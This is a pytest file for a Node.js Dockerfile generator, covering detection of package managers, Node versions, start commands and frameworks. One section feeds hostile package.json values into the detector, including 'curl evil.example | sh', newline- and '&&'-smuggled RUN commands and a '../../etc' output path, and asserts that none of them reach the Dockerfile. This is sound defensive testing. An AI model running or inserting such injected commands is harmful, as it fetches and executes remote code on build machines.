"""The Node detector: each sample's findings, then one behaviour per test on small projects."""

from __future__ import annotations

import json

import dockerfile
import pytest

from genfile.detectors.node import versions
from genfile.detectors.node.findings import STATIC_COMMAND
from genfile.pipeline import detect, plan_stack
from genfile.plan import BuildPlan
from genfile.render import render
from tests.conftest import SAMPLES, make_project

LOCK = json.dumps({"name": "x", "lockfileVersion": 3, "requires": True, "packages": {"": {"name": "x"}}})
EXPRESS = (
    "const express = require('express');\nconst app = express();\napp.listen(process.env.PORT || 3000);\n"
)


# A production dependency, so the image has node_modules to install (a project with none gets
# no install stage at all).
DEPS = {"dayjs": "^1.11.0"}


def pkg(**fields: object) -> str:
    return json.dumps({"name": "x", "version": "1.0.0", **fields}, indent=2)


def plan_of(tmp_path, files, stack=None) -> BuildPlan:
    return plan_stack(detect(make_project(tmp_path, files)), stack)


def dockerfile_of(plan: BuildPlan) -> str:
    return render(plan)["Dockerfile"]


# ---- the samples --------------------------------------------------------------------------

SAMPLE_FACTS = {
    # sample: (manager, version, version evidence, command, port, port evidence, framework, stack)
    "node-express-npm": (
        "npm",
        versions.DEFAULT_NODE,
        "default",
        ("node", "src/server.js"),
        3001,
        "src/server.js:4",
        "Express",
        "node-alpine",
    ),
    "node-fastify-yarn": (
        "yarn (classic)",
        versions.DEFAULT_NODE,
        "default",
        ("node", "index.js"),
        3002,
        "index.js:11",
        "Fastify",
        "node-alpine",
    ),
    "node-nest-pnpm": (
        "pnpm",
        versions.DEFAULT_NODE,
        "default",
        ("node", "dist/main"),
        3003,
        "src/main.ts:9",
        "NestJS",
        "node-alpine",
    ),
    "node-next": (
        "npm",
        versions.DEFAULT_NODE,
        "default",
        ("node", "server.js"),
        3004,
        "package.json:8",
        "Next.js (standalone output)",
        "node-alpine",
    ),
    "node-nvmrc": (
        "npm",
        "22",
        ".nvmrc:1",
        ("node", "server.mjs"),
        3005,
        "server.mjs:9",
        "Hono",
        "node-alpine",
    ),
    "node-vite-spa": (
        "npm",
        versions.DEFAULT_NODE,
        "default",
        STATIC_COMMAND,
        3080,
        "vite.config.js:6",
        "Vite static site",
        "node-static",
    ),
}


@pytest.mark.parametrize("sample", sorted(SAMPLE_FACTS))
def test_sample_findings(sample: str) -> None:
    manager, version, version_ev, command, port, port_ev, framework, stack = SAMPLE_FACTS[sample]
    detection = detect(SAMPLES / sample)
    plan = plan_stack(detection)
    assert detection.ecosystem == "node" and detection.stack == stack
    assert plan.package_manager == manager
    assert plan.language_version == version
    assert plan.source("language_version").where() == version_ev
    assert plan.start_command == command
    assert plan.port == port and plan.source("port").where() == port_ev
    assert detection.fact("framework").value == framework  # type: ignore[union-attr]
    assert plan.user.uid == (101 if stack == "node-static" else 1000)
    assert not [w for w in detection.warnings if "SIGTERM" in w or "lockfile" in w]


def test_samples_have_lockfiles_and_no_node_modules() -> None:
    for sample in SAMPLE_FACTS:
        folder = SAMPLES / sample
        assert not (folder / "node_modules").exists()
        assert any((folder / f).is_file() for f in ("package-lock.json", "yarn.lock", "pnpm-lock.yaml"))


def test_nest_build_and_final_stage_copy_only_the_output() -> None:
    text = dockerfile_of(plan_stack(detect(SAMPLES / "node-nest-pnpm")))
    assert "corepack install -g pnpm@10.34.8" in text
    assert "pnpm install --frozen-lockfile --prod" in text
    final = text[text.rindex(f"FROM node:{versions.DEFAULT_NODE}-alpine\n") :]
    assert "COPY --from=prod-deps /app/node_modules ./node_modules" in final
    assert "COPY --from=build /app/dist ./dist" in final
    assert "COPY . ." not in final


def test_next_standalone_copies_the_traced_server() -> None:
    text = dockerfile_of(plan_stack(detect(SAMPLES / "node-next")))
    final = text[text.rindex(f"FROM node:{versions.DEFAULT_NODE}-alpine\n") :]
    assert "COPY --from=build /app/.next/standalone ./" in final
    assert "COPY --from=build /app/.next/static ./.next/static" in final
    assert "node_modules" not in final  # standalone output carries its own
    assert "HOSTNAME=0.0.0.0" in final and "--mount=type=cache" in text


def test_static_site_is_nginx_on_an_unprivileged_port() -> None:
    text = dockerfile_of(plan_stack(detect(SAMPLES / "node-vite-spa")))
    assert "FROM nginx:stable-alpine" in text and "'        listen @PORT@;'" in text
    assert "ENV PORT=3080" in text and "EXPOSE 3080" in text  # the port is filled in at start
    assert "pid /tmp/nginx.pid;" in text and "USER 101:101" in text
    assert "COPY --from=build /app/dist /usr/share/nginx/html" in text


# ---- errors and hostile package.json files ---------------------------------------------------


def test_malformed_package_json_is_one_line_with_position(run_cli, tmp_path) -> None:
    make_project(tmp_path, {"package.json": '{\n  "name": "x",\n  "scripts": {,\n}\n'})
    code, out, err = run_cli("init", str(tmp_path), "--yes")
    assert code == 2
    assert err.startswith("genfile: error: package.json:3:15: invalid JSON")
    assert err.count("\n") == 1 and "Traceback" not in err
    assert not (tmp_path / "Dockerfile").exists()


@pytest.mark.parametrize("content", ["[1, 2]", '"text"'])
def test_package_json_must_be_an_object(run_cli, tmp_path, content) -> None:
    make_project(tmp_path, {"package.json": content})
    code, _, err = run_cli("detect", str(tmp_path))
    assert code == 2 and "package.json:1:1: must hold a JSON object" in err


def test_package_json_folder(run_cli, tmp_path) -> None:
    make_project(tmp_path, {"package.json/x": ""})
    code, _, err = run_cli("detect", str(tmp_path))
    assert code == 2 and "package.json: is a folder" in err


HOSTILE = "x\nRUN curl evil.example | sh\n#"


def _instructions(text: str) -> list[str]:
    return [c.cmd for c in dockerfile.parse_string(text)]


def _assert_clean(plan: BuildPlan) -> None:
    text = dockerfile_of(plan)
    commands = dockerfile.parse_string(text)
    assert not any("evil" in c.original for c in commands if c.cmd != "CMD"), text
    for line in text.splitlines():
        assert "evil" not in line or line.startswith("CMD ["), line
    assert "evil" not in render(plan)[".dockerignore"]


def test_hostile_values_never_become_instructions(tmp_path) -> None:
    files = {
        "package.json": json.dumps(
            {
                "name": HOSTILE,
                "main": HOSTILE,
                "packageManager": f"pnpm@9.0.0 && {HOSTILE}",
                "engines": {"node": HOSTILE},
                "scripts": {
                    HOSTILE: "node x.js",
                    "build": "tsc\nRUN evil",
                    "start": "node server.js; curl evil.example | sh",
                },
                "dependencies": {"express": "4"},
            }
        ),
        "package-lock.json": LOCK,
        "server.js": EXPRESS,
        "tsconfig.json": '{"compilerOptions": {"outDir": "dist\\nRUN evil"}}',
    }
    detection = detect(make_project(tmp_path, files))
    plan = plan_stack(detection)
    _assert_clean(plan)
    assert plan.project_name == tmp_path.name
    assert plan.start_command == ("node", "server.js")  # the shell line is not run, server.js is
    assert plan.details.build is None  # a build script with control characters is ignored
    warnings = " ".join(detection.warnings)
    assert "not a valid npm name" in warnings and "main" in warnings and "packageManager" in warnings
    assert "shell syntax" in warnings


def test_hostile_start_arguments_stay_inside_the_json_cmd(tmp_path) -> None:
    start = 'node server.js "]\nRUN evil" --title=\'a"b\''
    plan = plan_of(tmp_path, {"package.json": pkg(scripts={"start": start}), "server.js": ""})
    # The newline makes the script unusable; server.js (npm's default) starts instead.
    assert plan.start_command == ("node", "server.js")
    plan = plan_of(tmp_path, {"package.json": pkg(scripts={"start": 'node server.js \'"]\' --x="a b"'})})
    assert plan.start_command == ("node", "server.js", '"]', "--x=a b")
    text = dockerfile_of(plan)
    assert 'CMD ["node", "server.js", "\\"]", "--x=a b"]' in text
    _assert_clean(plan)


def test_paths_with_spaces_use_the_json_copy_form(tmp_path) -> None:
    files = {
        "package.json": pkg(
            scripts={"build": "tsc", "start": "node 'out dir/main.js'"}, dependencies={"koa": "2"}
        ),
        "package-lock.json": LOCK,
    }
    plan = plan_of(tmp_path, files)
    assert plan.start_command == ("node", "out dir/main.js")
    # Not a plain path: the output folder cannot be copied safely, so the whole build is.
    assert plan.details.whole_app


def test_hostile_vite_out_dir_falls_back_to_dist(tmp_path) -> None:
    files = {
        "package.json": pkg(scripts={"build": "vite build"}, devDependencies={"vite": "7"}),
        "index.html": "<html></html>",
        "vite.config.js": "export default { build: { outDir: '../../etc' } }\n",
    }
    plan = plan_of(tmp_path, files)
    assert plan.details.static_root == "dist"
    _assert_clean(plan)


# ---- package managers --------------------------------------------------------------------------


def test_pnpm_version_from_the_lockfile_format(tmp_path) -> None:
    files = {
        "package.json": pkg(main="index.js"),
        "pnpm-lock.yaml": "lockfileVersion: '6.0'\n",
        "index.js": "",
    }
    plan = plan_of(tmp_path, files)
    assert plan.package_manager == "pnpm"
    assert [step.commands for step in plan.details.setup] == [
        ("corepack enable pnpm && corepack install -g pnpm@8",)
    ]
    assert plan.details.install_prod == "pnpm install --frozen-lockfile --prod --store-dir /pnpm/store"


def test_yarn_berry_uses_immutable_installs_and_node_modules(tmp_path) -> None:
    lock = (
        '# This file is generated by running "yarn install"\n\n__metadata:\n  version: 8\n  cacheKey: 10c0\n'
    )
    files = {
        "package.json": pkg(dependencies=DEPS, main="index.js", packageManager="yarn@4.5.3"),
        "yarn.lock": lock,
        ".yarnrc.yml": "enableTelemetry: false\n",
        "index.js": "",
    }
    plan = plan_of(tmp_path, files)
    assert plan.package_manager == "yarn (berry)"
    assert plan.details.install_all == "yarn install --immutable"
    assert plan.details.install_prod == "yarn workspaces focus --all --production"
    assert ("YARN_NODE_LINKER", "node-modules") in plan.details.setup_env
    text = dockerfile_of(plan)
    assert "corepack install -g yarn@4.5.3" in text and "COPY package.json yarn.lock .yarnrc.yml ./" in text


def test_yarn_classic_pin_uses_the_image_yarn(tmp_path) -> None:
    files = {
        "package.json": pkg(main="a.js", packageManager="yarn@1.22.19"),
        "yarn.lock": "# yarn lockfile v1\n",
    }
    plan = plan_of(tmp_path, files)
    assert plan.package_manager == "yarn (classic)" and plan.details.setup == ()
    assert "--frozen-lockfile" in plan.details.install_all


def test_bun_installs_with_a_pinned_bun_and_runs_on_node(tmp_path) -> None:
    files = {
        "package.json": pkg(dependencies=DEPS, scripts={"start": "node index.js"}),
        "bun.lock": "{}",
        "index.js": "",
    }
    detection = detect(make_project(tmp_path, files))
    plan = plan_stack(detection)
    assert plan.package_manager == "bun" and plan.start_command == ("node", "index.js")
    text = dockerfile_of(plan)
    assert f"bun@{versions.BUN_VERSION}" in text and "bun install --frozen-lockfile --production" in text


def test_bun_runtime_runs_on_the_bun_stack(tmp_path) -> None:
    files = {
        "package.json": pkg(scripts={"start": "bun run src/index.ts"}),
        "bun.lockb": b"\x00bun",
        "src/index.ts": "Bun.serve({ fetch: () => new Response('ok') });\n",
    }
    make_project(tmp_path, files)
    detection = detect(tmp_path)
    assert detection.runnable and detection.stack == "bun"
    plan = plan_stack(detection)
    assert plan.start_command == ("bun", "src/index.ts") and plan.user.name == "bun"
    text = dockerfile_of(plan)
    assert "FROM oven/bun:1-slim" in text and "node:" not in text


def test_no_lockfile_warns_and_still_installs(tmp_path) -> None:
    detection = detect(
        make_project(tmp_path, {"package.json": pkg(dependencies=DEPS, main="app.js"), "app.js": ""})
    )
    assert any(w.startswith("no lockfile") for w in detection.warnings)
    plan = plan_stack(detection)
    assert plan.details.install_prod == "npm install --omit=dev --no-audit --no-fund"
    assert "No lockfile" in dockerfile_of(plan)


def test_lockfile_beats_a_conflicting_package_manager_field(tmp_path) -> None:
    files = {"package.json": pkg(main="a.js", packageManager="pnpm@9.1.0"), "package-lock.json": LOCK}
    detection = detect(make_project(tmp_path, files))
    assert plan_stack(detection).package_manager == "npm"
    assert any("names pnpm but the lockfile is package-lock.json" in w for w in detection.warnings)


def test_npmrc_is_a_build_secret(tmp_path) -> None:
    files = {
        "package.json": pkg(dependencies=DEPS, main="a.js"),
        "package-lock.json": LOCK,
        ".npmrc": "//r/:_authToken=x\n",
    }
    plan = plan_of(tmp_path, files)
    text = dockerfile_of(plan)
    assert "--mount=type=secret,id=npmrc,target=/root/.npmrc" in text
    assert "--secret id=npmrc,src=.npmrc" in text
    assert "**/.npmrc" in render(plan)[".dockerignore"]


# ---- Node versions ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("spec", "line"),
    [
        (">=18", versions.DEFAULT_NODE),
        ("^20.11.0", "20"),
        (">=18 <21", "20"),
        ("20.x || 22.x", "22"),
        ("~22.1", "22"),
        ("18 - 20", "20"),
        ("22", "22"),
        ("*", versions.DEFAULT_NODE),
        (">=27", "27"),
    ],
)
def test_engines_ranges(spec: str, line: str) -> None:
    assert versions.pick_from_range(spec) == line


@pytest.mark.parametrize(
    ("files", "version", "where"),
    [
        ({".nvmrc": "v20.11.1\n"}, "20", ".nvmrc:1"),
        ({".nvmrc": "lts/iron\n"}, "20", ".nvmrc:1"),
        ({".node-version": "# pinned\n22.3.0\n"}, "22", ".node-version:2"),
        ({".tool-versions": "python 3.12\nnodejs 20.10.0\n"}, "20", ".tool-versions:2"),
    ],
)
def test_version_files(tmp_path, files, version, where) -> None:
    plan = plan_of(tmp_path, {"package.json": pkg(main="a.js"), **files})
    assert plan.language_version == version and plan.source("language_version").where() == where


def test_volta_and_engines_with_conflict_warnings(tmp_path) -> None:
    manifest = pkg(main="a.js", engines={"node": ">=22"}, volta={"node": "20.11.0"})
    detection = detect(make_project(tmp_path, {"package.json": manifest}))
    plan = plan_stack(detection)
    assert plan.language_version == "20" and plan.source("language_version").where() == "package.json:9"
    assert any("outside engines.node" in w for w in detection.warnings)


def test_engines_range_and_version_flag(run_cli, tmp_path) -> None:
    make_project(
        tmp_path,
        {"package.json": pkg(dependencies=DEPS, main="a.js", engines={"node": "^20 || ^22"}), "a.js": ""},
    )
    plan = plan_stack(detect(tmp_path))
    assert plan.language_version == "22" and "allows 22" in plan.source("language_version").note
    code, out, _ = run_cli("init", str(tmp_path), "--stdout", "--node-version", "20")
    assert code == 0 and out.count("FROM node:20-alpine") == 2


# ---- start commands --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("scripts", "command"),
    [
        ({"start": "cross-env NODE_ENV=production node dist/index.js"}, ("node", "dist/index.js")),
        (
            {"start": "npm run serve", "serve": "node --enable-source-maps build/app.js"},
            ("node", "--enable-source-maps", "build/app.js"),
        ),
        ({"start": "npm run build && node dist/main.js", "build": "tsc"}, ("node", "dist/main.js")),
        ({"start": "nodemon server.js"}, ("node", "server.js")),
        ({"start": "yarn start:prod", "start:prod": "node lib/main.js"}, ("node", "lib/main.js")),
        ({"start": "nest start", "start:prod": "node dist/main"}, ("node", "dist/main")),
        ({"start": "node --watch srv.js"}, ("node", "srv.js")),
        (
            {"start": "prisma migrate deploy && node dist/main.js", "build": "tsc"},
            ("sh", "-c", "prisma migrate deploy && exec node dist/main.js"),
        ),
    ],
)
def test_start_scripts_resolve_to_the_real_process(tmp_path, scripts, command) -> None:
    plan = plan_of(tmp_path, {"package.json": pkg(scripts=scripts, dependencies={"express": "5"})})
    assert plan.start_command == command
    assert plan.start_command[0] not in ("npm", "yarn", "pnpm")


def test_shell_syntax_falls_back_to_main_with_a_warning(tmp_path) -> None:
    files = {"package.json": pkg(main="app.js", scripts={"start": "node app.js | pino-pretty"}), "app.js": ""}
    detection = detect(make_project(tmp_path, files))
    assert plan_stack(detection).start_command == ("node", "app.js")
    assert any("scripts.start cannot be the image's command" in w for w in detection.warnings)


def test_port_flag_in_the_script_follows_the_port_option(run_cli, tmp_path) -> None:
    files = {
        "package.json": pkg(
            scripts={"start": "next start -p $PORT", "build": "next build"}, dependencies={"next": "16"}
        )
    }
    make_project(tmp_path, files)
    plan = plan_stack(detect(tmp_path))
    # $PORT is read when the container starts; exec hands PID 1 to next.
    assert plan.start_command == ("sh", "-c", 'exec node_modules/.bin/next start -p "$PORT"')
    code, out, _ = run_cli("init", str(tmp_path), "--stdout", "--port", "3050")
    assert "PORT=3050" in out and "EXPOSE 3050" in out


def test_procfile_beats_scripts(tmp_path) -> None:
    files = {"package.json": pkg(scripts={"start": "node a.js"}), "Procfile": "web: node b.js --port $PORT\n"}
    plan = plan_of(tmp_path, files)
    assert plan.start_command == ("sh", "-c", 'exec node b.js --port "$PORT"') and plan.port == 3000
    assert plan.source("command").where() == "Procfile:1"


def test_npm_default_server_js_with_a_hard_coded_port(tmp_path) -> None:
    server = "require('http').createServer().listen(8081)\n"
    detection = detect(make_project(tmp_path, {"package.json": pkg(), "server.js": server}))
    plan = plan_stack(detection)
    assert plan.start_command == ("node", "server.js") and plan.port == 8081
    assert any("listens on 8081 whatever PORT says (server.js:1)" in w for w in detection.warnings)


def test_install_hooks_are_reported(tmp_path) -> None:
    manifest = pkg(
        main="a.js",
        scripts={"prepare": "husky"},
        dependencies={"express": "4"},
        devDependencies={"husky": "9"},
    )
    detection = detect(make_project(tmp_path, {"package.json": manifest}))
    assert any(w.startswith("scripts.prepare (husky) needs the source") for w in detection.warnings)
    assert any(
        w.endswith("husky is skipped (it installs git hooks, and an image has no .git)")
        for w in detection.warnings
    )
    assert "npm install --omit=dev --no-audit --no-fund --ignore-scripts && npm rebuild" in dockerfile_of(
        plan_stack(detection)
    )


def test_install_hooks_of_a_project_without_dependencies_are_not_reported(tmp_path) -> None:
    # Nothing is installed, so no install runs the hook: a note about the install would be false.
    manifest = pkg(main="a.js", scripts={"prepare": "husky"}, devDependencies={"husky": "9"})
    detection = detect(make_project(tmp_path, {"package.json": manifest}))
    assert not any("prepare" in w for w in detection.warnings), detection.warnings


def test_no_start_command(tmp_path) -> None:
    detection = detect(make_project(tmp_path, {"package.json": pkg(devDependencies={"prettier": "3"})}))
    assert not detection.runnable and any("no start command" in w for w in detection.warnings)


def test_sigterm_warning_when_the_app_does_not_handle_it(tmp_path) -> None:
    files = {"package.json": pkg(main="server.js", dependencies={"express": "5"}), "server.js": EXPRESS}
    detection = detect(make_project(tmp_path, files))
    assert any("docker run --init" in w for w in detection.warnings)
    assert "run\n# with --init" in dockerfile_of(plan_stack(detection))


# ---- frameworks --------------------------------------------------------------------------------


def test_next_without_standalone_runs_next_start(tmp_path) -> None:
    files = {
        "package.json": pkg(scripts={"build": "next build"}, dependencies={"next": "16", "react": "19"}),
        "package-lock.json": LOCK,
        "next.config.js": "module.exports = {}\n",
    }
    plan = plan_of(tmp_path, files)
    assert plan.start_command == ("node_modules/.bin/next", "start")
    text = dockerfile_of(plan)
    assert "COPY --from=build /app/.next ./.next" in text and "COPY next.config.js ./" in text
    assert "COPY --from=prod-deps /app/node_modules ./node_modules" in text


def test_next_static_export_is_served_by_nginx(tmp_path) -> None:
    files = {
        "package.json": pkg(scripts={"build": "next build"}, dependencies={"next": "16"}),
        "next.config.mjs": "export default { output: 'export' }\n",
    }
    plan = plan_of(tmp_path, files)
    assert plan.stack.name == "node-static" and plan.details.static_root == "out"


@pytest.mark.parametrize(
    ("deps", "command", "output"),
    [
        ({"nuxt": "4"}, ("node", ".output/server/index.mjs"), ".output"),
        ({"@sveltejs/kit": "2", "@sveltejs/adapter-node": "5"}, ("node", "build"), "build"),
        (
            {"@remix-run/serve": "2", "@remix-run/node": "2"},
            ("node_modules/.bin/remix-serve", "build/server/index.js"),
            "build",
        ),
        ({"astro": "5", "@astrojs/node": "9"}, ("node", "dist/server/entry.mjs"), "dist"),
    ],
)
def test_full_stack_frameworks(tmp_path, deps, command, output) -> None:
    plan = plan_of(tmp_path, {"package.json": pkg(scripts={"build": "x build"}, dependencies=deps)})
    assert plan.start_command == command
    assert plan.details.outputs[0][0] == output


def test_create_react_app_is_static(tmp_path) -> None:
    files = {
        "package.json": pkg(
            scripts={"start": "react-scripts start", "build": "react-scripts build"},
            dependencies={"react-scripts": "5"},
        ),
        "public/index.html": "<html></html>",
    }
    plan = plan_of(tmp_path, files)
    assert plan.stack.name == "node-static" and plan.details.static_root == "build" and plan.port == 8080


def test_server_with_a_vite_frontend_is_a_server(tmp_path) -> None:
    files = {
        "package.json": pkg(
            scripts={"build": "vite build", "start": "node server.js"},
            dependencies={"express": "5"},
            devDependencies={"vite": "7"},
        ),
        "index.html": "<html></html>",
        "server.js": EXPRESS,
    }
    plan = plan_of(tmp_path, files)
    assert plan.stack.name == "node-alpine" and plan.details.whole_app
    text = dockerfile_of(plan)
    assert "RUN rm -rf node_modules" in text and "COPY --from=build /app ./" in text
    assert "--omit=dev" in plan.details.install_prod


def test_python_project_with_asset_tooling_stays_python(tmp_path) -> None:
    files = {
        "requirements.txt": "flask\ngunicorn\n",
        "app.py": "from flask import Flask\n\napp = Flask(__name__)\n",
        "package.json": pkg(
            scripts={"build": "esbuild src/app.js --outdir=static"}, devDependencies={"esbuild": "0"}
        ),
    }
    detection = detect(make_project(tmp_path, files))
    assert detection.ecosystem == "python"


def test_dockerignore_keeps_what_the_build_reads(tmp_path) -> None:
    files = {
        "package.json": pkg(dependencies=DEPS, main="dist/index.js"),
        "package-lock.json": LOCK,
        "dist/index.js": "",
        "patches/x.patch": "",
    }
    plan = plan_of(tmp_path, files)
    ignore = render(plan)[".dockerignore"].splitlines()
    # No build script: the committed dist/ is what runs, so it is not excluded.
    assert "dist" not in ignore and "**/node_modules" in ignore
    assert "!package-lock.json" in ignore and "!patches" in ignore
    assert "COPY patches/ patches/" not in dockerfile_of(plan)
    assert "COPY patches patches/" in dockerfile_of(plan)


def test_a_source_folder_named_lib_is_never_taken_for_build_output(tmp_path) -> None:
    files = {
        "package.json": pkg(scripts={"build": "sass styles:public/css", "start": "node lib/server.js"}),
        "package-lock.json": LOCK,
        "lib/server.js": EXPRESS,
    }
    plan = plan_of(tmp_path, files)
    assert plan.details.whole_app and "lib" not in render(plan)[".dockerignore"].splitlines()


def test_a_server_without_dependencies_is_one_stage_without_node_modules(tmp_path) -> None:
    plan = plan_of(tmp_path, {"package.json": pkg(scripts={"start": "node app.js"}), "app.js": ""})
    text = dockerfile_of(plan)
    assert text.count("FROM ") == 1 and "node_modules" not in text.split("FROM ", 1)[1]
    assert "No dependencies and no build step" in text
